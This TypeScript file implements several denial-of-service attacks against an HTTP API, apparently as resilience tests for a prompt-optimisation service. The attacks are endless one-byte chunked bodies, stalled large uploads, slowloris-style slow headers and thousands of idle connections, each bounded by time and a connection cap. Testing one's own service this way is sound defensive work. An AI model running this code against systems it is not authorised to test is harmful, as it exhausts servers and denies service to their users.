import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { type AttackReport, type AttackTarget, attackerIp } from './attack.ts'

/** However fast the service closes connections: an attack is bounded in count as in time. */
const connectionsMax = 20_000
/** After a connection was refused or ended. */
const pauseMs = 20

const chunkedCount = 32
const chunkedPaths = [
  '/api/v1/prompts/optimize',
  '/api/v1/prompts/image-to-prompt',
  '/api/v1/account/keys',
  '/api/v1/webhooks/stripe',
  '/nowhere',
]
const piece = '1\r\nx\r\n'.repeat(10_000)
/** Of one connection: altogether some 100 MB a second, if the service took them. */
const pieceMs = 20

/** Bodies without end in chunks of one byte, on every kind of route, with a key and without one in turn. */
export function tinyChunks(target: AttackTarget): Promise<AttackReport> {
  return keepConnections(target, chunkedCount, (socket, number) => {
    const authorization = number % 2 === 0 ? { authorization: `Bearer ${target.key}` } : {}
    const path = chunkedPaths[Math.floor(number / 2) % chunkedPaths.length] ?? ''
    socket.write(requestHead(path, { 'transfer-encoding': 'chunked', ...authorization }))
    pour(socket)
  })
}

function pour(socket: Socket): void {
  const timer = setInterval(() => {
    if (socket.writable && !socket.writableNeedDrain) socket.write(piece)
  }, pieceMs)
  socket.once('close', () => clearInterval(timer))
}

const uploadsCount = 80
const uploadBytes = 11_500_000

/** Uploads of an image that all but end: the service has nearly all of their bytes and can do nothing with them. */
export function unfinishedUploads(target: AttackTarget): Promise<AttackReport> {
  const upload = Buffer.concat([Buffer.from('{"image_base64":"'), Buffer.alloc(uploadBytes, 'A')])
  return keepConnections(target, uploadsCount, (socket) => {
    const headers = { 'content-length': String(upload.length + 1000), authorization: `Bearer ${target.key}` }
    socket.write(requestHead('/api/v1/prompts/image-to-prompt', headers))
    socket.write(upload)
  })
}

const slowClientsCount = 1000
const byteMs = 1000
const head = 'POST /api/v1/prompts/optimize HTTP/1.1\r\nhost: attack\r\nx-slow: '

/** Connections that send one byte of a header a second, without end. */
export function slowClients(target: AttackTarget): Promise<AttackReport> {
  return keepConnections(target, slowClientsCount, (socket) => {
    socket.write(head)
    const timer = setInterval(() => socket.writable && socket.write('a'), byteMs)
    socket.once('close', () => clearInterval(timer))
  })
}

/** More than the API takes from all clients together. */
const silentConnectionsCount = 2100

/** Connections of one client that send nothing; each that is ended is opened anew. */
export function silentConnections(target: AttackTarget): Promise<AttackReport> {
  return keepConnections(target, silentConnectionsCount, () => {})
}

function requestHead(path: string, headers: Record<string, string>): string {
  const all = Object.entries({ host: 'attack', 'content-type': 'application/json', ...headers })
  return `POST ${path} HTTP/1.1\r\n${all.map(([name, value]) => `${name}: ${value}\r\n`).join('')}\r\n`
}

/**
 * Keeps `connections` open until the attack's time is over, runs `act` on each, and replaces those that the service
 * closes. Counts the first answer of each.
 */
async function keepConnections(
  target: AttackTarget,
  connections: number,
  act: (socket: Socket, number: number) => void,
): Promise<AttackReport> {
  const { hostname, port } = new URL(target.url)
  const endMs = performance.now() + target.seconds * 1000
  const report: AttackReport = { sent: 0, answers: {} }
  const keep = async (): Promise<void> => {
    while (performance.now() < endMs && report.sent < connectionsMax) {
      report.sent += 1
      const socket = connect({ host: hostname, port: Number(port), localAddress: attackerIp }).on('error', () => {})
      let status = 'cut'
      socket.once('data', (bytes) => {
        status = bytes.toString('latin1').split(' ', 2)[1] ?? 'cut'
      })
      socket.once('connect', () => act(socket, report.sent))
      const over = new AbortController()
      const { signal } = over
      await Promise.race([
        once(socket, 'close', { signal }).catch(() => {}),
        delay(Math.max(0, endMs - performance.now()), undefined, { signal }).catch(() => {}),
      ])
      over.abort()
      socket.destroy()
      report.answers[status] = (report.answers[status] ?? 0) + 1
      await delay(pauseMs)
    }
  }
  await Promise.all(Array.from({ length: connections }, keep))
  return report
}
